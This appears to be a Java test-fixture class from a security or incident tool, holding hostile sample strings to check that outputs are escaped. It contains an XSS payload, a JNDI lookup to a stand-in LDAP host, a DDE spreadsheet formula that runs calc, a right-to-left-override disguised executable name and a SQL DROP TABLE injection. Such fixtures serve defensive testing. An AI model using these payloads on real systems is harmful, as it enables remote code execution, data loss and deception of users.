/* Copyright 2026 the Spoor authors. SPDX-License-Identifier: Apache-2.0 */
package dev.spoor.sampledata.incident;

/** Text an attacker plants where it will be read: harmless here, a test of every output. */
final class Hostile {
  static final String SCRIPT_AGENT =
      "Boto3/1.26.90 \"><script>document.title='spoor'</script><img src=x onerror=alert(1)>";

  /** CloudTrail cuts a user agent at one kilobyte. */
  static final String LONG_AGENT = "A".repeat(512) + "%s%n${jndi:ldap://203.0.113.9/a}".repeat(16);

  static final String FORMULA_TAG = "=cmd|' /C calc'!A0";

  /** A right-to-left override makes {@code gpj.exe} read as {@code exe.jpg}. */
  static final String RIGHT_TO_LEFT = "invoice-\u202egpj.exe";

  static final String QUOTED_NAME = "fn-\"'--;DROP TABLE events";

  private Hostile() {}
}
